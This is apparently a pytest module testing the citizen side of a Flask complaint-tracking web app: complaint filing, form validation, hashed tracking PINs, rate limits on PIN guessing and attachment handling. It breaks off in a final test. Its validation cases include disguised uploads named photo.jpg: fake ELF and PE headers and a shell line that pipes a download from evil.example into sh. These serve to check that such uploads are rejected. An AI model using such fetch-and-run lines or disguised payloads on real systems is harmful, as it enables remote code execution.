"""The citizen's side end to end through the test client: the complaint form and its
validation, the receipt, tracking with code and PIN, attachments, the complainant's steps
on the tracking page, rate limits, languages and the receipt email (design.md section 5,
domain.md sections 3, 4 and 6).

Requests run outside any pushed application context: the `ctx`/`world` fixtures keep one
pushed for the whole test, and the test client would then share `g` (CSRF token, locale)
between requests and browsers. Database checks open their own short application context.
"""
from __future__ import annotations

import hashlib
import io
import json
import os
import re
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from PIL import Image
from sqlalchemy import func, select

import pengaduan.http.filing as filing
from pages import Form, Page
from pengaduan import audit
from pengaduan.extensions import db, limiter
from pengaduan.models import Attachment, AuditEvent, Complaint, OutboxMessage, User
from pengaduan.policy import Actor
from pengaduan.services import advance, create_category, create_unit, create_user, file_complaint
from pengaduan.services.attachments import clean
from pengaduan.services.complaints.tracking import check_pin, hash_pin

WIB = ZoneInfo("Asia/Jakarta")
NEW = "/complaints/new"
RECEIPT = "/complaints/receipt"
OFFICER = "officer.a@example.id"
OFFICER_NAME = "Siti Rahayu Petugas"
VERIFY = {"unit": "UNIT-A", "category": "GENERAL", "classification": "pengaduan"}
CODE_PATTERN = r"[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}"  # Crockford base32, no I L O U
PIN_PATTERN = r"[0-9A-HJKMNP-TV-Z]{5}-[0-9A-HJKMNP-TV-Z]{5}"  # the same alphabet, XXXXX-XXXXX


# --- reading pages -------------------------------------------------------------------------


def by_testid(html: str, name: str) -> str:
    """The text of the element with this data-testid."""
    match = re.search(rf'data-testid="{name}"[^>]*>([^<]*)<', html)
    assert match, f"no data-testid={name}"
    return match.group(1).strip()


def masked(html: str) -> str:
    """The page without the values that differ per request: CSRF tokens and the typed code."""
    return re.sub(r'(name="(?:csrf_token|code)"[^>]*value=")[^"]*"', r'\1"', html)


def en_moment(moment: datetime) -> str:
    """A UTC moment as the English pages show it in WIB."""
    local = moment.astimezone(WIB)
    return f"{local.day} {local:%b %Y %H:%M} WIB"


# --- files -----------------------------------------------------------------------------------

def image_bytes(kind: str, size=(16, 12), color="red") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, kind)
    return buffer.getvalue()


def jpeg_bytes() -> bytes:
    return image_bytes("JPEG")


def png_bytes() -> bytes:
    return image_bytes("PNG", color="blue")


def pdf_bytes() -> bytes:
    return image_bytes("PDF", color="white")


def noise_png(at_least: int = 1_500_000) -> bytes:
    """A real PNG of random pixels (which do not compress) of at least `at_least` bytes."""
    side = int((at_least / 3) ** 0.5) + 1
    buffer = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(buffer, "PNG")
    assert buffer.tell() >= at_least
    return buffer.getvalue()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def stored_files(app) -> list[str]:
    folder = Path(app.config["PENGADUAN_UPLOAD_DIR"])
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def uploads(files) -> list:
    return [(io.BytesIO(content), name) for content, name in files]


# --- the citizen's browser -------------------------------------------------------------------

def jakarta_today() -> date:
    return datetime.now(WIB).date()


def valid_form() -> dict:
    """A complete, valid complaint form with every field filled."""
    day = (jakarta_today() - timedelta(days=3)).isoformat()
    return {
        "unit": "UNIT-A", "category": "GENERAL", "classification": "pengaduan",
        "title": "KTP-el belum jadi", "description": "Sudah tiga bulan menunggu.\nBelum ada kabar.",
        "incident_date": day, "incident_location": "Loket 3, Kantor Disdukcapil",
        "service_date": day, "requested_resolution": "KTP-el segera dicetak.",
        "privacy": "public", "name": "Budi Hartono", "nik": "3201234567890123",
        "email": "", "phone": "+62 812-3456-7890", "address": "Jl. Merdeka 1, Bogor",
        "consent": "y",
    }


def new_browser(app, lang: str = "en"):
    """A fresh browser (its own cookies and session) reading the interface in `lang`."""
    client = app.test_client()
    client.set_cookie("lang", lang)
    return client


def get_page(client, url: str) -> Page:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return Page(response.get_data(as_text=True))


def file_complaint_via_form(client, files=(), **fields):
    """Send the complaint form with the CSRF token of the rendered page; None omits a field."""
    data = {"csrf_token": get_page(client, NEW).forms[NEW].values["csrf_token"],
            **valid_form(), **fields}
    data = {name: value for name, value in data.items() if value is not None}
    if files:
        data["attachments"] = uploads(files)
    return client.post(NEW, data=data, content_type="multipart/form-data")


@dataclass
class Receipt:
    code: str
    pin: str
    html: str


def file_and_read_receipt(client, files=(), **fields) -> Receipt:
    """File through the form, follow the redirect to the receipt and read code and PIN."""
    response = file_complaint_via_form(client, files, **fields)
    assert response.status_code == 302, response.get_data(as_text=True)
    assert response.headers["Location"] == RECEIPT
    html = client.get(RECEIPT).get_data(as_text=True)
    return Receipt(by_testid(html, "tracking-code"), by_testid(html, "tracking-pin"), html)


def track(client, code: str, pin: str, address: str | None = None):
    """Post code and PIN on /track, optionally from another IP address."""
    token = get_page(client, "/track").forms["/track"].values["csrf_token"]
    return client.post("/track", data={"csrf_token": token, "code": code, "pin": pin},
                       environ_base={"REMOTE_ADDR": address} if address else {})


def wrong(pin: str) -> str:
    """The PIN with its last character changed (an old 6-digit PIN stays 6 digits)."""
    if pin.isdigit():
        return f"{(int(pin) + 1) % 10**6:06d}"
    return pin[:-1] + ("0" if pin[-1] != "0" else "1")


def act(client, code: str, trigger: str, form: Form | None = None, files=(), **fields):
    """A complainant's step from the tracking page (withdrawing: from its own page), with its
    rendered (or given) hidden fields."""
    page, action = ((f"/track/{code}/withdraw",) * 2 if trigger == "withdraw"
                    else (f"/track/{code}", f"/track/{code}/act/{trigger}"))
    form = form or get_page(client, page).forms[action]
    data = {"csrf_token": form.values["csrf_token"], "version": form.values["version"], **fields}
    data = {name: value for name, value in data.items() if value is not None}
    if files:
        data["attachments"] = uploads(files)
    return client.post(action, data=data, content_type="multipart/form-data")


def officer_does(app, code: str, *steps):
    """An officer of UNIT-A fires workflow steps (trigger, fields) through the service."""
    with app.app_context():
        complaint = Complaint.by_code(code)
        officer = Actor.staff(User.by_email(OFFICER))
        for trigger, fields in steps:
            advance(complaint, trigger, officer, **fields)
        db.session.commit()


FOLLOWED_UP = (("verify", VERIFY), ("follow_up", {"response": "KTP-el sudah dicetak."}))


# --- the database ----------------------------------------------------------------------------

@contextmanager
def complaint_in_db(app, code: str):
    with app.app_context():
        yield Complaint.by_code(code)


def audit_trail(app, code: str) -> list[tuple[str, str, dict]]:
    """(action, actor, payload) of the complaint's audit events, oldest first."""
    with app.app_context():
        rows = db.session.scalars(select(AuditEvent).where(AuditEvent.complaint_code == code)
                                  .order_by(AuditEvent.seq))
        return [(row.action, row.actor, json.loads(row.body)["payload"]) for row in rows]


def assert_nothing_saved(app) -> None:
    """No complaint, attachment, complaint audit event, email or stored file exists."""
    with app.app_context():
        for count in (select(func.count(Complaint.id)), select(func.count(Attachment.id)),
                      select(func.count(OutboxMessage.id)),
                      select(func.count(AuditEvent.seq)).where(AuditEvent.action.like("complaint.%"))):
            assert db.session.scalar(count) == 0
    assert stored_files(app) == []


# --- fixtures --------------------------------------------------------------------------------

@pytest.fixture
def org(app):
    """Two units, a shared and a UNIT-B-only category, and a named officer of UNIT-A."""
    with app.app_context():
        create_unit("UNIT-A", "Dinas A")
        create_unit("UNIT-B", "Dinas B")
        create_category("GENERAL", "Umum")
        create_category("ONLY-B", "Khusus B", unit_codes=["UNIT-B"])
        create_user(OFFICER, "officer", name=OFFICER_NAME, password="correct horse battery",
                    unit_codes=["UNIT-A"])
        db.session.commit()


@pytest.fixture
def browser(app, org):
    """The complainant's browser, in English."""
    return new_browser(app)


@pytest.fixture
def rate_limits(app):
    """Flask-Limiter on for this app; conftest creates apps with it off, so nothing was set up."""
    was = limiter.enabled
    app.config["RATELIMIT_ENABLED"] = True
    limiter.init_app(app)  # reads RATELIMIT_ENABLED, sets up memory storage and its hooks
    limiter.reset()
    yield limiter
    limiter.reset()
    limiter.enabled = was
    app.config["RATELIMIT_ENABLED"] = False


# --- 1. filing ---------------------------------------------------------------------------------

@pytest.mark.parametrize("privacy", ["public", "anonymous", "confidential"])
def test_filing_gives_receipt_and_records_complaint(app, browser, privacy):
    """Each privacy mode files: receipt with code, PIN and deadline; rows, clocks and audit exist."""
    receipt = file_and_read_receipt(browser, privacy=privacy)
    assert re.fullmatch(CODE_PATTERN, receipt.code)
    assert re.fullmatch(PIN_PATTERN, receipt.pin)
    with complaint_in_db(app, receipt.code) as complaint:
        assert (complaint.privacy, complaint.state, complaint.channel) == (privacy, "received", "web")
        assert complaint.title == "KTP-el belum jadi"
        assert [(e.kind, e.trigger, e.to_state, e.actor_role) for e in complaint.events] == [
            ("filed", "file", "received", "citizen")]
        clocks = {clock.rule: clock for clock in complaint.clocks}
        assert {"verification", "response"} <= set(clocks)
        assert clocks["verification"].running and clocks["response"].running
        verification_due = clocks["verification"].due_at
    assert f"by {en_moment(verification_due)}" in receipt.html
    [(action, actor, payload)] = audit_trail(app, receipt.code)
    assert (action, actor) == ("complaint.filed", "citizen")
    assert payload["privacy"] == privacy and payload["unit"] == "UNIT-A"


def test_pin_is_stored_hashed(app, browser):
    """Only a keyed hash of the PIN is stored; the PIN itself is in no column nor audit event."""
    receipt = file_and_read_receipt(browser)
    with complaint_in_db(app, receipt.code) as complaint:
        columns = [getattr(complaint, attr.key) for attr in Complaint.__mapper__.column_attrs]
        assert receipt.pin not in [str(value) for value in columns]
        assert re.fullmatch(r"hmac-sha256\$[0-9a-f]{16}\$[0-9a-f]{64}", complaint.pin_hash)
        assert check_pin(complaint.pin_hash, receipt.pin)
        assert not check_pin(complaint.pin_hash, wrong(receipt.pin))
        data = [json.dumps(event.data) for event in complaint.events]
    assert all(receipt.pin not in text for text in data)
    [(_, _, payload)] = audit_trail(app, receipt.code)
    assert receipt.pin not in [str(value) for value in payload.values()]


def test_anonymous_filing_needs_no_identity(app, browser):
    """An anonymous complaint with every identity field empty is accepted."""
    receipt = file_and_read_receipt(browser, privacy="anonymous", name="", nik="", email="",
                                    phone="", address="")
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.privacy == "anonymous"
        assert (complaint.complainant_name, complaint.complainant_nik, complaint.complainant_email,
                complaint.complainant_phone, complaint.complainant_address) == (None,) * 5


def test_consent_is_asked_with_an_identity_and_stored_with_its_version(app, browser):
    """The form's consent box is needed as soon as one identity field is filled (here only a
    phone number, filing anonymously), not for an anonymous filing without identity; the
    complaint keeps when and to which version of the consent text its complainant agreed."""
    from pengaduan.services.complaints.intake import CONSENT_VERSION

    anonymous = dict(privacy="anonymous", name="", nik="", email="", phone="", address="")
    refused = file_complaint_via_form(browser, **{**anonymous, "phone": "0812345678", "consent": None})
    assert refused.status_code == 422 and 'id="consent-error"' in refused.get_data(as_text=True)
    bare = file_and_read_receipt(browser, **{**anonymous, "consent": None})
    named = file_and_read_receipt(browser)
    with complaint_in_db(app, bare.code) as complaint:
        assert (complaint.consent_at, complaint.consent_version) == (None, None)
    with complaint_in_db(app, named.code) as complaint:
        assert complaint.consent_version == CONSENT_VERSION
        assert complaint.consent_at is not None and complaint.consent_at <= complaint.received_at


def test_confidential_title_never_on_public_pages(app, browser):
    """A confidential complaint's title shows only to its complainant, never on public pages."""
    title = "RAHASIA pungli di loket tujuh"
    receipt = file_and_read_receipt(browser, privacy="confidential", title=title)
    assert title in receipt.html
    stranger = new_browser(app)
    responses = [client.get(url) for client in (stranger, browser)
                 for url in ("/", "/track", NEW, f"/track?code={receipt.code}")]
    responses += [stranger.get(f"/track/{receipt.code}", follow_redirects=True),
                  track(stranger, receipt.code, wrong(receipt.pin))]
    for response in responses:
        assert response.status_code in (200, 404)
        assert title not in response.get_data(as_text=True)


@pytest.mark.parametrize("days_ago, late", [(45, True), (31, True), (30, False)])
def test_late_filing_is_accepted_and_flagged(app, browser, days_ago, late):
    """Past the 30-day window a complaint is still registered, flagged late on row, event, audit."""
    day = (jakarta_today() - timedelta(days=days_ago)).isoformat()
    receipt = file_and_read_receipt(browser, service_date=day, incident_date=day)
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "received" and complaint.late_filing is late
        assert complaint.events[0].data["late_filing"] is late
    [(_, _, payload)] = audit_trail(app, receipt.code)
    assert payload["late_filing"] is late


# --- 2. validation ---------------------------------------------------------------------------

def tomorrow() -> str:
    return (jakarta_today() + timedelta(days=1)).isoformat()


def too_many_photos(app):
    count = app.config["PENGADUAN_MAX_ATTACHMENTS"] + 1
    return [(image_bytes("JPEG", color=(i, 0, 0)), f"photo{i}.jpg") for i in range(count)]


DISGUISED = {  # bytes a browser would happily upload as photo.jpg
    "elf": b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200),
    "pe": (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x80\x00\x00\x00" + bytes(64)
           + b"PE\x00\x00" + bytes(100)),
    "shell": b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
}


@dataclass
class Invalid:
    changes: dict  # form fields to change; a callable value is computed at test time
    at: str  # the field where the error must show
    files: object = None  # callable(app) -> [(bytes, name)]; default: one valid photo
    config: dict = field(default_factory=dict)


INVALID = {
    "empty-title": Invalid({"title": ""}, "title"),
    "blank-description": Invalid({"description": "   "}, "description"),
    "no-unit": Invalid({"unit": ""}, "unit"),
    "nik-too-short": Invalid({"nik": "320123456789"}, "nik"),
    "nik-not-digits": Invalid({"nik": "32012345678901ab"}, "nik"),
    "bad-email": Invalid({"email": "budi@example"}, "email"),
    "bad-phone": Invalid({"phone": "telepon saya"}, "phone"),
    "future-incident-date": Invalid({"incident_date": tomorrow}, "incident_date"),
    "future-service-date": Invalid({"service_date": tomorrow}, "service_date"),
    "no-name-when-not-anonymous": Invalid({"name": ""}, "name"),
    "no-consent": Invalid({"consent": None}, "consent"),
    "too-many-files": Invalid({}, "attachments", too_many_photos),
    "file-too-large": Invalid({}, "attachments", lambda app: [(noise_png(1_500_000), "big.png")],
                              {"PENGADUAN_MAX_UPLOAD_MB": 1}),
    **{f"disguised-{kind}": Invalid({}, "attachments", lambda app, data=data: [
        (jpeg_bytes(), "real.jpg"), (data, "photo.jpg")]) for kind, data in DISGUISED.items()},
}


def assert_error_at(page: Page, name: str, form: str = NEW) -> None:
    """The error summary links to the control, which is marked invalid and explained."""
    assert f"#{name}" in page.links
    assert name in page.forms[form].invalid
    assert page.ids[f"{name}-error"] == 1


@pytest.mark.parametrize("case", INVALID.values(), ids=INVALID.keys())
def test_invalid_form_shows_error_at_field_and_keeps_data(app, browser, case):
    """Each rule refuses with 422, names the field, keeps what was typed and saves nothing."""
    app.config.update(case.config)
    sent = {**valid_form(), "classification": "aspirasi", "privacy": "confidential",
            "email": "budi@example.id"}
    sent.update({name: value() if callable(value) else value for name, value in case.changes.items()})
    files = case.files(app) if case.files else [(jpeg_bytes(), "photo.jpg")]
    response = file_complaint_via_form(browser, files, **sent)
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    assert_error_at(page, case.at)
    kept = page.forms[NEW].values
    for name, value in sent.items():
        if value is None:
            assert name not in kept
        else:
            assert kept[name] == value, name
    assert page.ids["attachments-note"] == 1  # files must be chosen again
    assert_nothing_saved(app)


def test_every_error_is_listed_at_once(app, browser):
    """Several mistakes are all reported in one answer, each at its field."""
    response = file_complaint_via_form(browser, title="", nik="123", email="x@", consent=None)
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    for name in ("title", "nik", "email", "consent"):
        assert_error_at(page, name)
    assert_nothing_saved(app)


@pytest.mark.parametrize("token", [None, "IjAwMDAi.forged.token"], ids=["missing", "wrong"])
def test_form_without_valid_token_keeps_data(app, browser, token):
    """A missing or wrong CSRF token re-renders with the data and a fresh token; nothing saved."""
    sent = {**valid_form(), "privacy": "anonymous", "title": 'Pungli "loket" <7> & antrean'}
    response = file_complaint_via_form(browser, [(jpeg_bytes(), "photo.jpg")], **sent,
                                       csrf_token=token)
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    assert "#csrf_token" in page.links
    kept = page.forms[NEW].values
    assert {name: kept[name] for name in sent} == sent
    assert_nothing_saved(app)
    again = browser.post(NEW, data=kept, content_type="multipart/form-data")
    assert again.status_code == 302  # the re-rendered form can simply be sent again


def test_request_over_max_content_length_gets_friendly_413(app, browser):
    """A body larger than MAX_CONTENT_LENGTH gets the styled 413 page and saves nothing."""
    app.config["MAX_CONTENT_LENGTH"] = 1024 * 1024
    response = file_complaint_via_form(browser, [(noise_png(1_500_000), "big.png")])
    assert response.status_code == 413
    html = response.get_data(as_text=True)
    assert '<html lang="en">' in html and 'id="main"' in html and "File too large" in html
    assert_nothing_saved(app)


# --- 4. attachments --------------------------------------------------------------------------

def test_attachments_stored_under_random_names_and_served(app, browser):
    """Photos and a PDF are kept under random names with their sha256, and served safely;
    what is kept, hashed and served is the copy stripped of metadata."""
    files = {"foto loket.jpg": (jpeg_bytes(), "image/jpeg"), "antrean.png": (png_bytes(), "image/png"),
             "surat.pdf": (pdf_bytes(), "application/pdf")}
    receipt = file_and_read_receipt(browser, [(data, name) for name, (data, _) in files.items()])
    files = {name: (clean(data).data, kind) for name, (data, kind) in files.items()}
    with complaint_in_db(app, receipt.code) as complaint:
        rows = {a.filename: (a.id, a.stored_name, a.content_type, a.sha256, a.size, a.event_id)
                for a in complaint.attachments}
        filed_event = complaint.events[0].id
    assert set(rows) == set(files)
    assert stored_files(app) == sorted(row[1] for row in rows.values())
    links = get_page(browser, f"/track/{receipt.code}").links
    for name, (data, kind) in files.items():
        attachment_id, stored_name, content_type, digest, size, event_id = rows[name]
        assert (content_type, digest, size, event_id) == (kind, sha256(data), len(data), filed_event)
        assert re.fullmatch(r"[0-9a-f]{32}\.(jpg|png|pdf)", stored_name)
        assert (Path(app.config["PENGADUAN_UPLOAD_DIR"]) / stored_name).read_bytes() == data
        url = f"/track/{receipt.code}/files/{attachment_id}"
        assert url in links
        response = browser.get(url)
        assert response.status_code == 200
        assert response.mimetype == kind and response.data == data
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        disposition = response.headers.get("Content-Disposition", "")
        assert disposition.startswith("attachment") == (kind == "application/pdf")
    [(_, _, payload)] = audit_trail(app, receipt.code)
    assert sorted(item["sha256"] for item in payload["attachments"]) == sorted(
        sha256(data) for data, _ in files.values())


def test_attachments_not_served_without_pin(app, browser):
    """Another browser cannot fetch a file, nor can a complainant fetch another complaint's."""
    mine = file_and_read_receipt(browser, [(jpeg_bytes(), "mine.jpg")])
    neighbour = new_browser(app)
    theirs = file_and_read_receipt(neighbour, [(png_bytes(), "theirs.png")])
    with app.app_context():
        ids = {a.filename: a.id for a in db.session.scalars(select(Attachment))}
    stranger = new_browser(app)
    for client, url in ((stranger, f"/track/{mine.code}/files/{ids['mine.jpg']}"),
                        (browser, f"/track/{mine.code}/files/{ids['theirs.png']}"),
                        (browser, f"/track/{theirs.code}/files/{ids['theirs.png']}")):
        response = client.get(url)
        assert response.status_code in (302, 404), url
        assert response.mimetype == "text/html"
    assert neighbour.get(f"/track/{theirs.code}/files/{ids['theirs.png']}").status_code == 200


# --- 5. a failure after the files were written -----------------------------------------------

def test_failure_after_files_stored_leaves_nothing(app, browser, monkeypatch):
    """If registering fails once files are written, no row, audit event or file remains."""
    real_file_complaint, seen = filing.file_complaint, []

    def file_then_fail(*args, **kwargs):
        real_file_complaint(*args, **kwargs)  # complaint, events and audit event are flushed
        seen.append(stored_files(app))
        raise RuntimeError("the database went away")

    monkeypatch.setattr(filing, "file_complaint", file_then_fail)
    app.config["PROPAGATE_EXCEPTIONS"] = False
    response = file_complaint_via_form(browser, [(jpeg_bytes(), "a.jpg"), (pdf_bytes(), "b.pdf")],
                                       email="budi@example.id")
    assert response.status_code == 500
    assert len(seen) == 1 and len(seen[0]) == 2  # the files really were written first
    assert_nothing_saved(app)

    monkeypatch.setattr(filing, "file_complaint", real_file_complaint)
    receipt = file_and_read_receipt(browser)
    assert [a for a, _, _ in audit_trail(app, receipt.code)] == ["complaint.filed"]
    with app.app_context():
        assert audit.verify_chain(db.session, audit.public_key_hex()).ok


# --- 6. tracking -----------------------------------------------------------------------------

@pytest.mark.parametrize("spelling", [str, lambda c: c.replace("-", "").lower(),
                                      lambda c: f"  {c.lower()} "],
                         ids=["as-printed", "lower-no-dash", "spaces"])
def test_code_and_pin_open_the_complaint(app, browser, spelling):
    """The right code and PIN open the complaint page, however the code is typed."""
    receipt = file_and_read_receipt(browser)
    citizen = new_browser(app)
    assert citizen.get(f"/track/{receipt.code}").status_code == 302  # not yet proven
    response = track(citizen, spelling(receipt.code), receipt.pin)
    assert response.status_code == 302
    assert response.headers["Location"] == f"/track/{receipt.code}"
    page = get_page(citizen, f"/track/{receipt.code}")
    assert "KTP-el belum jadi" in page.html and receipt.code in page.html


def test_wrong_pin_and_unknown_code_answer_alike(app, browser):
    """A wrong PIN and an unknown code get the same status and the same page."""
    receipt = file_and_read_receipt(browser)
    unknown = "ZZZZ-ZZZZ" if receipt.code != "ZZZZ-ZZZZ" else "YYYY-YYYY"
    wrong_pin = track(new_browser(app), receipt.code, wrong(receipt.pin))
    unknown_code = track(new_browser(app), unknown, receipt.pin)
    assert wrong_pin.status_code == unknown_code.status_code == 404
    assert masked(wrong_pin.get_data(as_text=True)) == masked(unknown_code.get_data(as_text=True))
    assert "KTP-el belum jadi" not in wrong_pin.get_data(as_text=True)


def test_repeated_wrong_pins_are_rate_limited(app, browser, rate_limits):
    """After ten wrong PINs from one address the friendly 429 page answers there, even to the
    right PIN; the owner typing it at another address gets in at once."""
    receipt = file_and_read_receipt(browser)
    attacker = new_browser(app)
    statuses = [track(attacker, receipt.code, wrong(receipt.pin)).status_code for _ in range(10)]
    assert statuses == [404] * 10
    response = track(attacker, receipt.code, receipt.pin)
    assert response.status_code == 429
    html = response.get_data(as_text=True)
    assert '<html lang="en">' in html and "Too many attempts" in html
    assert track(new_browser(app), receipt.code, receipt.pin, "192.0.2.7").status_code == 302


def test_strangers_guessing_from_many_addresses_never_keep_the_owner_out(app, browser, rate_limits):
    """Wrong guesses for one code from many addresses, of the new shape and of the old 6-digit
    one, leave the owner of a new PIN free to open her complaint."""
    receipt = file_and_read_receipt(browser)
    attacker = new_browser(app)
    new_shape = [track(attacker, receipt.code, wrong(receipt.pin), f"198.51.100.{i}").status_code
                 for i in range(12)]
    old_shape = [track(attacker, receipt.code, "123456", f"198.51.100.{i}").status_code
                 for i in range(12)]
    assert new_shape == [404] * 12 and old_shape == [404] * 10 + [429] * 2
    owner = track(new_browser(app), receipt.code.lower(), receipt.pin.replace("-", " "), "192.0.2.7")
    assert owner.status_code == 302 and owner.headers["Location"] == f"/track/{receipt.code}"


def _give_old_pin(app, code: str, pin: str = "123456") -> str:
    """Make a complaint carry a 6-digit PIN, as receipts issued before the longer PINs do."""
    with app.app_context():
        db.session.scalar(select(Complaint).where(Complaint.tracking_code == code)).pin_hash = hash_pin(pin)
        db.session.commit()
    return pin


@pytest.mark.parametrize("spelling", [
    str,
    lambda c: c.replace("-", "").lower(),
], ids=["as-printed", "respelled"])
def test_old_six_digit_pins_are_limited_per_code_across_addresses(app, browser, rate_limits, spelling):
    """An old receipt's 6-digit PIN still opens its complaint; ten wrong 6-digit PINs for one
    code in a day, from ten addresses, close that code to 6-digit PINs however it is spelled
    (a million PINs at ten a day: over a hundred years). The browser that opened the
    complaint before keeps it."""
    receipt = file_and_read_receipt(browser)
    pin = _give_old_pin(app, receipt.code)
    assert track(browser, receipt.code, pin, "192.0.2.1").status_code == 302
    attacker = new_browser(app)
    for i in range(10):
        assert track(attacker, receipt.code, wrong(pin), f"198.51.100.{i}").status_code == 404
    response = track(attacker, spelling(receipt.code), wrong(pin), "198.51.100.99")
    assert response.status_code == 429
    assert track(new_browser(app), receipt.code, pin, "192.0.2.7").status_code == 429
    assert browser.get(f"/track/{receipt.code}").status_code == 200


def test_an_old_six_digit_pin_can_be_replaced_by_a_long_one(app, browser, rate_limits):
    """Opening a complaint with an old receipt's 6-digit PIN offers a new PIN; the new PIN is
    shown once, opens the complaint, and the old one stops working (so no stranger's guesses
    at 6-digit PINs can keep the owner out any longer). Only the hash is kept; it is audited."""
    receipt = file_and_read_receipt(browser)
    assert "Your PIN is an old, short one" not in get_page(browser, f"/track/{receipt.code}").html
    old = _give_old_pin(app, receipt.code)
    owner = new_browser(app)
    assert track(owner, receipt.code, old).status_code == 302
    page = get_page(owner, f"/track/{receipt.code}")
    assert "Your PIN is an old, short one" in page.html
    action = f"/track/{receipt.code}/pin"
    assert owner.post(action, data={"csrf_token": "stale"}).status_code == 302  # nothing changed
    other = new_browser(app)  # another browser opened it with the old PIN too
    assert track(other, receipt.code, old).status_code == 302
    answer = owner.post(action, data={"csrf_token": page.forms[action].values["csrf_token"]})
    assert answer.status_code == 302 and answer.headers["Location"] == action
    shown = get_page(owner, action).html
    pin = by_testid(shown, "tracking-pin")
    assert re.fullmatch(PIN_PATTERN, pin)
    assert track(new_browser(app), receipt.code, old).status_code == 404
    assert track(new_browser(app), receipt.code, pin).status_code == 302
    assert other.get(f"/track/{receipt.code}").status_code == 302  # shut out by the new PIN
    assert "Your PIN is an old, short one" not in get_page(owner, f"/track/{receipt.code}").html
    with complaint_in_db(app, receipt.code) as complaint:
        assert check_pin(complaint.pin_hash, pin) and pin not in complaint.pin_hash
    [(actor, payload)] = [(a, p) for action_, a, p in audit_trail(app, receipt.code)
                          if action_ == "complaint.pin_replaced"]
    assert actor == "citizen" and pin not in json.dumps(payload)
    # Only the browser that opened it with the old PIN may ask, and only while it holds it.
    assert browser.post(action, data={"csrf_token": get_page(browser, "/track").token}).status_code == 302
    with complaint_in_db(app, receipt.code) as complaint:
        assert check_pin(complaint.pin_hash, pin)
    assert owner.get(action).status_code == 200
    owner.post("/track/forget", data={"csrf_token": get_page(owner, "/track").token})
    assert owner.get(action).status_code == 302


def test_internal_notes_and_staff_never_reach_citizen(app, browser):
    """Notes, the assignee's email and officer names stay internal; messages and responses show."""
    receipt = file_and_read_receipt(browser)
    officer_does(app, receipt.code, ("request_info", {"message": "Mohon kirim foto antrean.",
                                                      "note": "NOTE-ONE pelapor sulit"}))
    assert act(browser, receipt.code, "provide_info", message="Foto menyusul.").status_code == 302
    officer_does(app, receipt.code,
                 ("verify", {**VERIFY, "assignee": OFFICER, "note": "NOTE-TWO cek pungli"}),
                 ("follow_up", {"response": "KTP-el sudah dicetak.", "note": "NOTE-THREE"}))
    html = get_page(browser, f"/track/{receipt.code}").html
    for public in ("Mohon kirim foto antrean.", "Foto menyusul.", "KTP-el sudah dicetak.", "Dinas A"):
        assert public in html
    for internal in ("NOTE-ONE", "NOTE-TWO", "NOTE-THREE", OFFICER, OFFICER_NAME, "Siti"):
        assert internal not in html


# --- 7. the complainant's steps --------------------------------------------------------------

def test_provide_info_with_file_resumes_verification(app, browser):
    """request_info pauses the clock; the citizen's answer with a file returns it to received."""
    receipt = file_and_read_receipt(browser)
    officer_does(app, receipt.code, ("request_info", {"message": "Kirim foto antrean."}))
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "awaiting_info"
        assert complaint.clock("verification").paused_at is not None
    photo = png_bytes()
    response = act(browser, receipt.code, "provide_info", message="Foto terlampir.",
                   files=[(photo, "antrean.png")])
    assert response.status_code == 302
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "received"
        verification = complaint.clock("verification")
        assert verification.running and verification.due_at is not None
        assert complaint.clock("info_window").stopped_at is not None
        event = complaint.events[-1]
        assert (event.trigger, event.actor_role, event.data) == (
            "provide_info", "citizen", {"message": "Foto terlampir."})
        [attachment] = complaint.attachments
        assert (attachment.event_id, attachment.sha256) == (event.id, sha256(photo))
        url = f"/track/{receipt.code}/files/{attachment.id}"
    action, actor, payload = audit_trail(app, receipt.code)[-1]
    assert (action, actor, payload["to"]) == ("complaint.provide_info", "citizen", "received")
    assert payload["attachments"] == [{"sha256": sha256(photo), "size": len(photo), "type": "image/png"}]
    page = get_page(browser, f"/track/{receipt.code}")
    assert "Foto terlampir." in page.html and url in page.links
    assert browser.get(url).data == photo


@pytest.mark.parametrize("before, trigger, fields, state, closure_reason, rating", [
    (FOLLOWED_UP, "accept", {"rating": "5", "comment": "Terima kasih."}, "closed", "resolved", 5),
    (FOLLOWED_UP, "dispute", {"comment": "KTP-el belum saya terima."}, "verified", None, None),
    ((), "withdraw", {"comment": "Sudah selesai sendiri."}, "closed", "withdrawn", None),
], ids=["accept", "dispute", "withdraw"])
def test_citizen_step_goes_through_workflow(app, browser, before, trigger, fields, state,
                                            closure_reason, rating):
    """accept, dispute and withdraw move the complaint and write their audit event."""
    receipt = file_and_read_receipt(browser)
    officer_does(app, receipt.code, *before)
    response = act(browser, receipt.code, trigger, **fields)
    assert response.status_code == 302
    assert response.headers["Location"] == f"/track/{receipt.code}"
    with complaint_in_db(app, receipt.code) as complaint:
        assert (complaint.state, complaint.closure_reason, complaint.rating) == (
            state, closure_reason, rating)
        assert (complaint.events[-1].trigger, complaint.events[-1].actor_role) == (trigger, "citizen")
    action, actor, payload = audit_trail(app, receipt.code)[-1]
    assert (action, actor, payload["to"]) == (f"complaint.{trigger}", "citizen", state)
    # The chain proves the words without keeping them.
    assert payload["fields"]["comment"] == {
        "sha256": hashlib.sha256(fields["comment"].encode()).hexdigest(),
        "length": len(fields["comment"])}


def test_rating_after_officer_close_works_once(app, browser):
    """After an officer closes, the citizen rates once; a second rating is refused."""
    receipt = file_and_read_receipt(browser)
    officer_does(app, receipt.code, *FOLLOWED_UP, ("close", {"resolution": "KTP-el diserahkan."}))
    url = f"/track/{receipt.code}/rate"
